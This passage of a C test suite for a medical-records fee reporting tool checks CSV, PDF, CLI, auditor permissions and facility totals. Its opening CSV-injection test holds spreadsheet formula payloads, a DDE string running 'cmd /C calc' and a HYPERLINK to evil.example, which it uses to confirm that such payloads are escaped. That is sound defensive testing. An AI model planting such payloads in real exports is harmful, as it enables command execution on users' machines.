  g_assert_cmpuint (records->len, ==, 3);   /* header, the line, the adjustment's line */
  for (guint r = 1; r < records->len; r++)
    {
      char **f = g_ptr_array_index (records, r);

      /* No cell starts a formula, except integers in the money columns. */
      for (guint c = 0; f[c]; c++)
        if (f[c][0] != '\0' && strchr ("=+-@\t\r", f[c][0]) != NULL)
          {
            g_assert_true (looks_like_integer (f[c]));
            g_assert_true (c == (guint) column ("amount_cents") ||
                           c == (guint) column ("request_total_cents") ||
                           c == (guint) column ("legal_maximum_cents") ||
                           c == (guint) column ("flat_option_cents") ||
                           c == (guint) column ("quantity"));
          }
      g_assert_cmpstr (f[column ("override_reason")], ==,
                       "'=HYPERLINK(\"http://evil.example/\",\"Why\")");
      g_assert_cmpstr (f[column ("request_total_cents")], ==, "200");
      if (g_strcmp0 (f[column ("description")], "Refund") == 0)
        {
          g_assert_cmpstr (f[column ("amount_cents")], ==, "-500");
          n_checked++;
        }
      else
        {
          g_assert_cmpstr (f[column ("rule")], ==, "'@SUM(1+1)*cmd|' /C calc'!A0");
          g_assert_cmpstr (f[column ("citation")], ==, "'+1 Pa. Code 1");
          g_assert_cmpstr (f[column ("description")], ==, "'\t-2 pages");
          g_assert_cmpstr (f[column ("amount_cents")], ==, "700");
          n_checked++;
        }
    }
  g_assert_cmpuint (n_checked, ==, 2);
}

/* The report is written by the direct writer (cst-pdf-direct.c), not
 * cairo: its producer, and its fonts embedded TrueType subsets, the Latin
 * one every document shares (simple, WinAnsiEncoding) and CID ones for
 * other scripts (the chart's bars are its fills, not cairo paths). */
static void
assert_written_directly (PopplerDocument *doc)
{
  g_autofree char *producer = poppler_document_get_producer (doc);
  PopplerFontInfo *info = poppler_font_info_new (doc);
  PopplerFontsIter *iter = NULL;
  guint n_fonts = 0;

  g_assert_cmpstr (producer, ==, "Custodian direct PDF writer");
  while (poppler_font_info_scan (info, 1, &iter))
    {
      if (iter == NULL)
        continue;
      do
        {
          g_assert_true (poppler_fonts_iter_is_embedded (iter));
          g_assert_true (poppler_fonts_iter_is_subset (iter));
          g_assert_true (poppler_fonts_iter_get_font_type (iter) == POPPLER_FONT_TYPE_TRUETYPE ||
                         poppler_fonts_iter_get_font_type (iter) == POPPLER_FONT_TYPE_CID_TYPE2);
          n_fonts++;
        }
      while (poppler_fonts_iter_next (iter));
      poppler_fonts_iter_free (iter);
      iter = NULL;
    }
  g_object_unref (info);
  g_assert_cmpuint (n_fonts, >=, 1);
}

static void
test_pdf (void)
{
  g_autofree char *auditor_info = cst_test_db_create_login (db, "custodian_auditor");
  g_autoptr(PGconn) auditor = cst_db_connect (auditor_info, NULL);
  g_autoptr(CstFeeReportSummary) summary = NULL;
  g_autoptr(PopplerDocument) doc = NULL;
  g_autoptr(GBytes) bytes = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("fee-report-XXXXXX", NULL);
  g_autofree char *path = g_build_filename (dir, "report.pdf", NULL);
  g_autofree char *contents = NULL;
  g_autofree char *text = NULL;
  g_autofree char *summary_page = NULL;
  g_autofree char *squashed = NULL;
  g_autofree char *total = NULL;
  const char *const forbidden[] = { "ROI-", "Courtesy", "Requester", NULL };
  gsize length;
  CstFeeReportFilter filter;

  period (&filter);
  cst_test_file_make_public (path);
  g_assert_true (cst_fee_report_write_pdf (auditor, &filter, path, &summary, &error));
  g_assert_no_error (error);
  g_assert_true (g_file_get_contents (path, &contents, &length, NULL));
  bytes = g_bytes_new_take (g_steal_pointer (&contents), length);
  doc = cst_test_pdf_open (bytes);
  g_assert_cmpint (poppler_document_get_n_pages (doc), >=, 2);
  summary_page = cst_test_pdf_page_text (doc, 0);
  text = cst_test_pdf_text (doc);
  squashed = cst_test_pdf_squash (text);
  total = cst_money_format (cst_fee_report_summary_get_total_cents (summary));
  g_assert_nonnull (strstr (summary_page, total));
  g_assert_nonnull (strstr (summary_page, "Invoiced requests: 8"));
  g_assert_nonnull (strstr (summary_page, "2025-06"));
  g_assert_nonnull (strstr (squashed, "Courtesydiscount"));
  /* Every footer has the page total, counted before page 1 was written. */
  for (int p = 0; p < poppler_document_get_n_pages (doc); p++)
    {
      g_autofree char *page_text = cst_test_pdf_page_text (doc, p);
      g_autofree char *label = g_strdup_printf ("Page %d of %d", p + 1,
                                                poppler_document_get_n_pages (doc));

      g_assert_nonnull (strstr (page_text, label));
    }
  /* No request data in the metadata, and the file is the owner's only. */
  cst_test_pdf_assert_clean_metadata (doc, forbidden);
  cst_test_file_assert_private (path);
  cst_test_pdf_assert_qpdf_clean (bytes);
  assert_written_directly (doc);
  g_unlink (path);
  g_rmdir (dir);
}

/* What the PDF must show in words, gathered from the report's own rows. */
static gboolean
collect_codes (const CstFeeReportRow *row,
               gpointer               user_data,
               GError               **error)
{
  GPtrArray *codes = user_data;  /* pairs: a code, then its label (or NULL) */

  g_ptr_array_add (codes, g_strdup (row->method));
  g_ptr_array_add (codes, g_strdup (cst_fee_invoice_method_get_label (row->method)));
  g_ptr_array_add (codes, g_strdup (row->requester));
  g_ptr_array_add (codes, g_strdup (cst_enum_get_label_for_nick (CST_TYPE_REQUESTER_KIND, row->requester)));
  for (guint i = 0; i < row->n_lines; i++)
    if (row->lines[i].rule != NULL)
      {
        g_ptr_array_add (codes, g_strdup (row->lines[i].rule));
        g_ptr_array_add (codes, NULL);
      }
  if (row->flags != 0)
    {
      g_ptr_array_add (codes, cst_fee_report_flags_to_string (row->flags));
      g_ptr_array_add (codes, NULL);
    }
  return TRUE;
}

/* The report for @filter written as PDF and read back as text. */
static char *
pdf_report_text (PGconn                   *conn,
                 const CstFeeReportFilter *filter)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("fee-report-XXXXXX", NULL);
  g_autofree char *path = g_build_filename (dir, "report.pdf", NULL);
  g_autofree char *contents = NULL;
  g_autoptr(GBytes) bytes = NULL;
  g_autoptr(PopplerDocument) doc = NULL;
  gsize length;

  g_assert_true (cst_fee_report_write_pdf (conn, filter, path, NULL, &error));
  g_assert_no_error (error);
  g_assert_true (g_file_get_contents (path, &contents, &length, NULL));
  g_unlink (path);
  g_rmdir (dir);
  bytes = g_bytes_new_take (g_steal_pointer (&contents), length);
  doc = cst_test_pdf_open (bytes);
  return cst_test_pdf_text (doc);
}

/* The PDF is for people: requester classes, methods, flags and the filter
 * in words; the rules' codes stay in the CSV.  Codes with a capital or a
 * space could be words, so only the ones that look like codes are sought
 * ("attorney" is also the start of "Attorney"). */
static void
test_pdf_in_words (void)
{
  g_autofree char *auditor_info = cst_test_db_create_login (db, "custodian_auditor");
  g_autoptr(PGconn) auditor = cst_db_connect (auditor_info, NULL);
  g_autoptr(GPtrArray) codes = g_ptr_array_new_with_free_func (g_free);
  g_autoptr(GError) error = NULL;
  g_autofree char *raw = NULL;
  g_autofree char *text = NULL;
  g_autofree char *filtered = NULL;
  CstFeeReportFilter filter;

  period (&filter);
  g_assert_true (cst_fee_report_run (auditor, &filter, collect_codes, codes, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (codes->len, >, 8);
  raw = pdf_report_text (auditor, &filter);
  text = cst_test_pdf_squash (raw);
  for (guint i = 0; i < codes->len; i += 2)
    {
      g_autofree char *code = cst_test_pdf_squash (g_ptr_array_index (codes, i));
      const char *label = g_ptr_array_index (codes, i + 1);

      if (strpbrk (code, "-_.;") != NULL && strstr (text, code) != NULL)
        g_error ("The report PDF shows the code “%s”", code);
      if (label != NULL)
        {
          g_autofree char *words = cst_test_pdf_squash (label);
          g_assert_nonnull (strstr (text, words));
        }
    }
  g_assert_nonnull (strstr (text, "Flatfee"));
  g_assert_nonnull (strstr (text, "Stateschedule"));

  /* The filter line names the requester class and the status in words. */
  filter.requester = "personal_representative";
  filter.status = "in_progress";
  filtered = pdf_report_text (auditor, &filter);
  g_assert_null (strstr (filtered, "personal_representative"));
  g_assert_null (strstr (filtered, "in_progress"));
  g_assert_nonnull (strstr (filtered, "requester class: Personal representative"));
  g_assert_nonnull (strstr (filtered, "status: In progress"));
}

/* The auditor reads everything the report needs and changes nothing:
 * every table in the schema refuses its UPDATE, DELETE and TRUNCATE. */
static void
test_auditor_changes_nothing (void)
{
  g_autofree char *auditor_info = cst_test_db_create_login (db, "custodian_auditor");
  g_autoptr(PGconn) auditor = cst_db_connect (auditor_info, NULL);
  g_autoptr(PGconn) owner = cst_test_db_connect (db);
  g_autoptr(PGresult) tables = NULL;
  g_autoptr(GError) error = NULL;

  tables = cst_db_exec (owner,
                        "SELECT DISTINCT ON (c.relname) quote_ident (c.relname), quote_ident (a.attname)"
                        "  FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace"
                        "  JOIN pg_attribute a ON a.attrelid = c.oid AND a.attnum > 0"
                        "   AND NOT a.attisdropped AND a.attidentity = '' AND a.attgenerated = ''"
                        " WHERE n.nspname = 'public' AND c.relkind IN ('r', 'p')"
                        " ORDER BY c.relname, a.attnum", 0, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpint (PQntuples (tables), >=, 10);
  for (int i = 0; i < PQntuples (tables); i++)
    {
      const char *table = cst_db_value (tables, i, 0);
      const char *col = cst_db_value (tables, i, 1);
      g_autofree char *update = g_strdup_printf ("UPDATE %s SET %s = %s", table, col, col);
      g_autofree char *delete = g_strdup_printf ("DELETE FROM %s", table);
      g_autofree char *truncate = g_strdup_printf ("TRUNCATE %s", table);
      const char *statements[] = { update, delete, truncate };

      for (guint s = 0; s < G_N_ELEMENTS (statements); s++)
        {
          if (cst_db_exec_command (auditor, statements[s], 0, NULL, &error))
            g_error ("the auditor could run: %s", statements[s]);
          g_assert_error (error, CST_ERROR, CST_ERROR_PERMISSION_DENIED);
          g_clear_error (&error);
        }
    }
}

/* The headless export: bad arguments exit 2 naming the argument; a good
 * run writes the file and one report.exported audit row with the period,
 * filters and format. */
static void
test_cli (void)
{
  static const char *const bad[][2] = {
    { "--from", "2025-02-30" }, { "--to", "yesterday" }, { "--state", "Pennsylvania" },
    { "--requester", "lawyer" }, { "--format", "xlsx" },
  };
  g_autofree char *dir = g_dir_make_tmp ("fee-report-cli-XXXXXX", NULL);
  g_autofree char *path = g_build_filename (dir, "report.csv", NULL);
  g_autofree char *pdf = g_build_filename (dir, "report.pdf", NULL);
  g_autofree char *csv = NULL;
  g_autofree char *err = NULL;
  g_autoptr(PGconn) owner = cst_test_db_connect (db);
  g_autofree char *auditor_info = cst_test_db_create_login (db, "custodian_auditor");
  g_autoptr(PGconn) auditor = cst_db_connect (auditor_info, NULL);
  g_autofree char *auditor_login = sql_value (auditor, "SELECT session_user", 0, NULL);
  g_autoptr(PGresult) audit = NULL;
  g_autoptr(GPtrArray) records = NULL;

  for (guint i = 0; i < G_N_ELEMENTS (bad); i++)
    {
      const char *from = strcmp (bad[i][0], "--from") == 0 ? bad[i][1] : "2025-06-01";
      const char *to = strcmp (bad[i][0], "--to") == 0 ? bad[i][1] : "2025-07-31";
      const char *state = strcmp (bad[i][0], "--state") == 0 ? bad[i][1] : "PA";
      const char *requester = strcmp (bad[i][0], "--requester") == 0 ? bad[i][1] : "patient";
      const char *format = strcmp (bad[i][0], "--format") == 0 ? bad[i][1] : "csv";

      g_clear_pointer (&err, g_free);
      g_assert_cmpint (cst_test_cli_run (auditor_info, NULL, &err, "report", "fees", "--from", from, "--to", to, "--state", state,
                                "--requester", requester, "--format", format, "--output", path, NULL), ==, 2);
      g_assert_nonnull (strstr (err, bad[i][0]));
      g_assert_false (g_file_test (path, G_FILE_TEST_EXISTS));
    }
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (cst_test_cli_run (auditor_info, NULL, &err, "report", "fees", "--from", "2025-06-01", "--to", "2025-07-31",
                            "--format", "csv", NULL), ==, 2);
  g_assert_nonnull (strstr (err, "--output"));
  /* An unknown status is named, with the statuses there are. */
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (cst_test_cli_run (auditor_info, NULL, &err, "report", "fees", "--from", "2025-06-01", "--to", "2025-07-31",
                            "--status", "shipped", "--format", "csv", "--output", path, NULL), ==, 2);
  g_assert_nonnull (strstr (err, "--status"));
  g_assert_nonnull (strstr (err, "shipped"));
  g_assert_nonnull (strstr (err, "quality_check"));
  g_assert_false (g_file_test (path, G_FILE_TEST_EXISTS));

  g_clear_pointer (&err, g_free);
  g_assert_cmpint (cst_test_cli_run (auditor_info, NULL, &err, "report", "fees", "--from", "2025-06-01", "--to", "2025-07-31",
                            "--state", "PA", "--requester", "patient", "--format", "csv",
                            "--output", path, NULL), ==, 0);
  g_assert_true (g_file_get_contents (path, &csv, NULL, NULL));
  records = parse_csv (csv);
  g_assert_cmpuint (records->len, >, 1);
  for (guint r = 1; r < records->len; r++)
    g_assert_cmpstr (((char **) g_ptr_array_index (records, r))[column ("requester_class")], ==, "patient");
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (cst_test_cli_run (auditor_info, NULL, &err, "report", "fees", "--from", "2025-06-01", "--to", "2025-07-31",
                            "--format", "pdf", "--output", pdf, NULL), ==, 0);
  g_assert_true (g_file_test (pdf, G_FILE_TEST_IS_REGULAR));

  /* --clerk and --status: the owner's two planted invoices, both received. */
  g_clear_pointer (&err, g_free);
  g_clear_pointer (&csv, g_free);
  g_clear_pointer (&records, g_ptr_array_unref);
  g_assert_cmpint (cst_test_cli_run (auditor_info, NULL, &err, "report", "fees", "--from", "2025-06-01", "--to", "2025-07-31",
                            "--clerk", owner_login, "--status", "received", "--format", "csv",
                            "--output", path, NULL), ==, 0);
  g_assert_true (g_file_get_contents (path, &csv, NULL, NULL));
  records = parse_csv (csv);
  {
    g_autoptr(GHashTable) references = g_hash_table_new (g_str_hash, g_str_equal);

    for (guint r = 1; r < records->len; r++)
      g_hash_table_add (references, ((char **) g_ptr_array_index (records, r))[column ("reference")]);
    g_assert_cmpuint (g_hash_table_size (references), ==, 2);
  }

  audit = cst_db_exec (owner, "SELECT d->>'from', d->>'to', d->>'state', d->>'requester', d->>'format',"
                              "       d->>'clerk', d->>'status'"
                              "  FROM (SELECT id, new_row->'details' AS d FROM audit_log"
                              "         WHERE action = 'EVENT' AND new_row->>'kind' = 'report.exported'"
                              "           AND actor = $1) e"
                              " ORDER BY id", 1, (const char *[]) { auditor_login }, NULL);
  g_assert_nonnull (audit);
  g_assert_cmpint (PQntuples (audit), ==, 3);
  g_assert_cmpstr (cst_db_value (audit, 2, 5), ==, owner_login);
  g_assert_cmpstr (cst_db_value (audit, 2, 6), ==, "received");
  g_assert_null (cst_db_value (audit, 0, 5));
  g_assert_cmpstr (cst_db_value (audit, 0, 0), ==, "2025-06-01");
  g_assert_cmpstr (cst_db_value (audit, 0, 1), ==, "2025-07-31");
  g_assert_cmpstr (cst_db_value (audit, 0, 2), ==, "PA");
  g_assert_cmpstr (cst_db_value (audit, 0, 3), ==, "patient");
  g_assert_cmpstr (cst_db_value (audit, 0, 4), ==, "csv");
  g_assert_cmpstr (cst_db_value (audit, 1, 4), ==, "pdf");
  g_assert_null (cst_db_value (audit, 1, 2));
  g_unlink (path);
  g_unlink (pdf);
  g_rmdir (dir);
}

static gpointer
copy_request_id (const CstFeeReportRow *row)
{
  return g_memdup2 (&row->request_id, sizeof row->request_id);
}

typedef struct
{
  gint     calls;   /* atomic: progress calls, on the worker thread */
  gint     freed;   /* atomic */
} Progress;

static void
count_progress (gint64   n_done,
                gpointer user_data)
{
  g_atomic_int_inc (&((Progress *) user_data)->calls);
}

static void
progress_free (gpointer data)
{
  g_atomic_int_set (&((Progress *) data)->freed, TRUE);
}

static void
test_async (void)
{
  g_autofree char *auditor_info = cst_test_db_create_login (db, "custodian_auditor");
  g_autoptr(CstConnection) auditor = cst_connection_new (auditor_info);
  g_autoptr(GAsyncResult) ran = NULL, patients = NULL, exported = NULL, cancelled = NULL;
  g_autoptr(GPtrArray) items = NULL;
  g_autoptr(GPtrArray) patient_items = NULL;
  g_autoptr(CstFeeReportSummary) summary = NULL;
  g_autoptr(CstFeeReportSummary) patient_summary = NULL;
  g_autoptr(GCancellable) cancellable = g_cancellable_new ();
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("fee-report-async-XXXXXX", NULL);
  g_autofree char *path = g_build_filename (dir, "report.csv", NULL);
  g_autoptr(GFile) file = g_file_new_for_path (path);
  char requester[] = "patient";
  Progress progress = { 0 };
  CstFeeReportFilter filter;
  gint64 n_written = 0;

  /* The list keeps the first rows; the summary counts every one. */
  period (&filter);
  cst_fee_report_run_async (auditor, &filter, 3, copy_request_id, g_free, NULL, cst_test_result_cb, &ran);
  g_assert_true (cst_fee_report_run_finish (auditor, cst_test_wait_result (&ran, 30), &items, &summary, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (items->len, ==, 3);
  for (guint i = 0; i < items->len; i++)
    g_assert_nonnull (find_seeded (*(gint64 *) g_ptr_array_index (items, i)));
  g_assert_cmpint (cst_fee_report_summary_get_n_requests (summary), ==, 8);

  /* The filter is copied: changing it after the call changes nothing. */
  filter.requester = requester;
  cst_fee_report_run_async (auditor, &filter, 100, copy_request_id, g_free, NULL, cst_test_result_cb, &patients);
  requester[0] = 'x';
  g_assert_true (cst_fee_report_run_finish (auditor, cst_test_wait_result (&patients, 30), &patient_items,
                                            &patient_summary, &error));
  g_assert_cmpuint (patient_items->len, ==, 2);
  g_assert_cmpint (cst_fee_report_summary_get_n_requests (patient_summary), ==, 2);

  /* Cancelled before it starts: no file. */
  period (&filter);
  g_cancellable_cancel (cancellable);
  cst_fee_report_export_file_async (auditor, &filter, NULL, CST_FEE_REPORT_FORMAT_CSV, file, cancellable,
                                    cst_test_result_cb, &cancelled);
  g_assert_false (cst_fee_report_export_file_finish (auditor, cst_test_wait_result (&cancelled, 30), NULL, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
  g_clear_error (&error);
  g_assert_false (g_file_test (path, G_FILE_TEST_EXISTS));

  filter.progress = count_progress;
  filter.progress_data = &progress;
  cst_fee_report_export_file_async (auditor, &filter, progress_free, CST_FEE_REPORT_FORMAT_CSV, file,
                                    NULL, cst_test_result_cb, &exported);
  g_assert_true (cst_fee_report_export_file_finish (auditor, cst_test_wait_result (&exported, 30), &n_written, &error));
  g_assert_no_error (error);
  g_assert_cmpint (n_written, ==, 8);
  g_assert_cmpint (g_atomic_int_get (&progress.calls), >, 0);
  /* The progress data is freed with the job, once the task is let go
   * (on whichever thread lets go last). */
  g_clear_object (&exported);
  for (gint64 deadline = g_get_monotonic_time () + 5 * G_USEC_PER_SEC;
       !g_atomic_int_get (&progress.freed) && g_get_monotonic_time () < deadline;)
    g_usleep (1000);
  g_assert_true (g_atomic_int_get (&progress.freed));
  cst_test_file_assert_private (path);
  g_unlink (path);
  g_rmdir (dir);
}

static void
record_progress (gint64   n_done,
                 gpointer user_data)
{
  g_array_append_val ((GArray *) user_data, n_done);
}

/* Issue 24: the PDF reads the database once, as the CSV does (it read it
 * twice, first only to count the pages): its progress climbs once to the
 * number of requests, and its footers still say "of Y". */
static void
test_pdf_one_pass (void)
{
  g_autofree char *auditor_info = cst_test_db_create_login (db, "custodian_auditor");
  g_autoptr(PGconn) auditor = cst_db_connect (auditor_info, NULL);
  g_autoptr(GArray) pdf_progress = g_array_new (FALSE, FALSE, sizeof (gint64));
  g_autoptr(GArray) csv_progress = g_array_new (FALSE, FALSE, sizeof (gint64));
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("fee-report-pass-XXXXXX", NULL);
  g_autofree char *pdf = g_build_filename (dir, "report.pdf", NULL);
  g_autofree char *csv = g_build_filename (dir, "report.csv", NULL);
  g_autoptr(GBytes) bytes = NULL;
  g_autoptr(PopplerDocument) doc = NULL;
  g_autofree char *contents = NULL;
  g_autofree char *last = NULL;
  g_autofree char *label = NULL;
  gsize length;
  CstFeeReportFilter filter;

  period (&filter);
  filter.progress = record_progress;
  filter.progress_data = csv_progress;
  g_assert_true (cst_fee_report_export_file (auditor, &filter, CST_FEE_REPORT_FORMAT_CSV, csv, NULL, &error));
  g_assert_no_error (error);
  filter.progress_data = pdf_progress;
  g_assert_true (cst_fee_report_export_file (auditor, &filter, CST_FEE_REPORT_FORMAT_PDF, pdf, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (csv_progress->len, >, 0);
  g_assert_cmpuint (pdf_progress->len, ==, csv_progress->len);
  for (guint i = 1; i < pdf_progress->len; i++)
    g_assert_cmpint (g_array_index (pdf_progress, gint64, i), >, g_array_index (pdf_progress, gint64, i - 1));
  g_assert_cmpint (g_array_index (pdf_progress, gint64, pdf_progress->len - 1), ==, 8);

  g_assert_true (g_file_get_contents (pdf, &contents, &length, NULL));
  bytes = g_bytes_new_take (g_steal_pointer (&contents), length);
  doc = cst_test_pdf_open (bytes);
  last = cst_test_pdf_page_text (doc, poppler_document_get_n_pages (doc) - 1);
  label = g_strdup_printf ("Page %d of %d", poppler_document_get_n_pages (doc),
                           poppler_document_get_n_pages (doc));
  g_assert_nonnull (strstr (last, label));
  /* The spooled detail is all there: the last request's money line. */
  g_assert_nonnull (strstr (last, "Collected"));
  g_unlink (pdf);
  g_unlink (csv);
  g_rmdir (dir);
}

/* Issue 22: the report of one facility holds its requests only; the whole
 * system's report totals each facility (summary, CSV column, CLI), and a
 * facility the login cannot name is an error, not an empty report. */
static void
test_facility (void)
{
  g_autoptr(PGconn) owner = cst_test_db_connect (db);
  g_autofree char *auditor_info = cst_test_db_create_login (db, "custodian_auditor");
  g_autoptr(PGconn) auditor = cst_db_connect (auditor_info, NULL);
  g_autoptr(CstFeeReportSummary) whole = NULL;
  g_autoptr(CstFeeReportSummary) north = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("fee-report-facility-XXXXXX", NULL);
  g_autofree char *path = g_build_filename (dir, "report.csv", NULL);
  g_autofree char *csv = NULL;
  g_autofree char *err = NULL;
  g_autoptr(CstFeeScheduleSet) set = cst_fee_repo_load_schedules (owner, NULL);
  g_autoptr(CstFeeQuote) attorney = quote (set, CST_FEE_REQUESTER_ATTORNEY, "2025-06-02",
                                           CST_FEE_FORMAT_PAPER, CST_FEE_METHOD_DEFAULT);
  Seeded north_request = { "north", 0, 0, 0 };
  g_autofree char *clean = g_strdup_printf ("%" G_GINT64_FORMAT, seeded[CLEAN].id);
  g_autoptr(GPtrArray) records = NULL;
  GPtrArray *buckets;
  CstFeeReportFilter filter;
  guint in_period = 0;

  for (guint i = 0; i < N_SEEDED; i++)
    if (i != OUTSIDE && i != NOT_INVOICED)
      in_period |= BIT (i);
  /* A second facility's request, invoiced there (the report's own
   * requests stay where they were received). */
  cst_test_db_exec_ok (owner, "INSERT INTO facilities (code, name) VALUES ('NORTH', 'North Campus')",
                       0, NULL);
  north_request.id = cst_test_db_int (owner,
    "INSERT INTO roi_requests (patient_id, requester_id, received_date, jurisdiction, format,"
    "                          delivery, page_count, facility_id)"
    " SELECT (SELECT id FROM patients LIMIT 1), requester_id, received_date, jurisdiction, format,"
    "        delivery, page_count, (SELECT id FROM facilities WHERE code = 'NORTH')"
    "   FROM roi_requests WHERE id = $1::bigint RETURNING id",
    1, (const char *[]) { clean });
  issue (owner, &north_request, attorney, CST_FEE_UNSET, NULL);

  period (&filter);
  filter.facility_code = "NORTH";
  g_assert_true (cst_fee_report_run (auditor, &filter, NULL, NULL, &north, &error));
  g_assert_no_error (error);
  g_assert_cmpint (cst_fee_report_summary_get_n_requests (north), ==, 1);
  g_assert_cmpint (cst_fee_report_summary_get_total_cents (north), ==, north_request.charged);
  g_clear_pointer (&north, cst_fee_report_summary_free);
  filter.facility_code = "MAIN";
  g_assert_cmpuint (reported (auditor, &filter), ==, in_period);

  /* Off the main loop, as the Reports page runs it: the code is copied
   * with the filter, and changing it after the call changes nothing. */
  {
    g_autoptr(CstConnection) connection = cst_connection_new (auditor_info);
    g_autoptr(GAsyncResult) ran = NULL;
    g_autoptr(GPtrArray) items = NULL;
    char code[] = "NORTH";

    filter.facility_code = code;
    cst_fee_report_run_async (connection, &filter, 10, copy_request_id, g_free, NULL, cst_test_result_cb, &ran);
    code[0] = 'X';
    g_assert_true (cst_fee_report_run_finish (connection, cst_test_wait_result (&ran, 30), &items, &north,
                                              &error));
    g_assert_no_error (error);
    g_assert_cmpuint (items->len, ==, 1);
    g_assert_cmpint (*(gint64 *) g_ptr_array_index (items, 0), ==, north_request.id);
    g_clear_pointer (&north, cst_fee_report_summary_free);
  }

  filter.facility_code = NULL;
  g_assert_true (cst_fee_report_run (auditor, &filter, NULL, NULL, &whole, &error));
  g_assert_no_error (error);
  buckets = cst_fee_report_summary_get_buckets (whole, "facility");
  g_assert_cmpuint (buckets->len, ==, 2);
  g_assert_cmpstr (((CstFeeReportBucket *) g_ptr_array_index (buckets, 0))->key, ==, "MAIN");
  g_assert_cmpint (((CstFeeReportBucket *) g_ptr_array_index (buckets, 0))->n_requests, ==, 8);
  g_assert_cmpstr (((CstFeeReportBucket *) g_ptr_array_index (buckets, 1))->key, ==, "NORTH");
  g_assert_cmpint (((CstFeeReportBucket *) g_ptr_array_index (buckets, 1))->n_requests, ==, 1);
  g_assert_cmpint (((CstFeeReportBucket *) g_ptr_array_index (buckets, 1))->cents, ==, north_request.charged);
  g_assert_cmpint (((CstFeeReportBucket *) g_ptr_array_index (buckets, 0))->cents, ==,
                   cst_fee_report_summary_get_total_cents (whole) - north_request.charged);

  /* The PDF's summary totals each facility. */
  {
    g_autofree char *pdf = g_build_filename (dir, "report.pdf", NULL);
    g_autofree char *contents = NULL;
    g_autoptr(GString) front = g_string_new (NULL);
    g_autoptr(GBytes) bytes = NULL;
    g_autoptr(PopplerDocument) doc = NULL;
    gsize length;

    g_assert_true (cst_fee_report_write_pdf (auditor, &filter, pdf, NULL, &error));
    g_assert_no_error (error);
    g_assert_true (g_file_get_contents (pdf, &contents, &length, NULL));
    bytes = g_bytes_new_take (g_steal_pointer (&contents), length);
    doc = cst_test_pdf_open (bytes);
    for (int p = 0; p < poppler_document_get_n_pages (doc); p++)
      {
        g_autofree char *text = cst_test_pdf_page_text (doc, p);

        /* The summary, up to the detail's first page. */
        if (strstr (text, "Request / fee line") != NULL)
          break;
        g_string_append (front, text);
      }
    g_assert_nonnull (strstr (front->str, "Facility"));
    g_assert_nonnull (strstr (front->str, "NORTH"));
    g_assert_nonnull (strstr (front->str, "MAIN"));
    g_unlink (pdf);
  }

  /* A misspelt code names itself. */
  filter.facility_code = "NROTH";
  g_assert_false (cst_fee_report_run (auditor, &filter, NULL, NULL, &north, &error));
  g_assert_error (error, CST_ERROR, CST_ERROR_INVALID_INPUT);
  g_assert_nonnull (strstr (error->message, "NROTH"));

  /* The CLI: --facility, the CSV's facility column, a total per facility. */
  g_assert_cmpint (cst_test_cli_run (auditor_info, NULL, &err, "report", "fees", "--from", "2025-06-01",
                                     "--to", "2025-07-31", "--format", "csv", "--output", path, NULL), ==, 0);
  g_assert_nonnull (strstr (err, "facility NORTH: 1 request"));
  g_assert_nonnull (strstr (err, "facility MAIN: 8 requests"));
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (cst_test_cli_run (auditor_info, NULL, &err, "report", "fees", "--from", "2025-06-01",
                                     "--to", "2025-07-31", "--facility", "NORTH", "--format", "csv",
                                     "--output", path, NULL), ==, 0);
  g_assert_true (g_file_get_contents (path, &csv, NULL, NULL));
  records = parse_csv (csv);
  g_assert_cmpuint (records->len, >, 1);
  g_assert_cmpstr (((char **) g_ptr_array_index (records, 0))[column ("facility")], ==, "facility");
  for (guint r = 1; r < records->len; r++)
    g_assert_cmpstr (((char **) g_ptr_array_index (records, r))[column ("facility")], ==, "NORTH");
  g_assert_null (strstr (err, "facility MAIN"));

  g_unlink (path);
  g_rmdir (dir);
}

int
main (int    argc,
      char **argv)
{
  int status;

  g_test_init (&argc, &argv, NULL);
  db = cst_test_db_new ();
  seed ();
  g_test_add_func ("/fee/report/flags-and-totals", test_flags_and_totals);
  g_test_add_func ("/fee/report/filters", test_filters);
  g_test_add_func ("/fee/report/cancel-and-export-file", test_cancel_and_export_file);
  g_test_add_func ("/fee/report/pdf-cancelled-midway", test_pdf_cancelled_midway);
  g_test_add_func ("/fee/report/csv", test_csv);
  g_test_add_func ("/fee/report/csv-injection", test_csv_injection);
  g_test_add_func ("/fee/report/pdf", test_pdf);
  g_test_add_func ("/fee/report/pdf-in-words", test_pdf_in_words);
  g_test_add_func ("/fee/report/auditor-changes-nothing", test_auditor_changes_nothing);
  g_test_add_func ("/fee/report/cli", test_cli);
  g_test_add_func ("/fee/report/async", test_async);
  g_test_add_func ("/fee/report/pdf-one-pass", test_pdf_one_pass);
  g_test_add_func ("/fee/report/facility", test_facility);
  status = g_test_run ();
  cst_test_db_free (db);
  g_free (clerk_login);
  g_free (owner_login);
  return status;
}
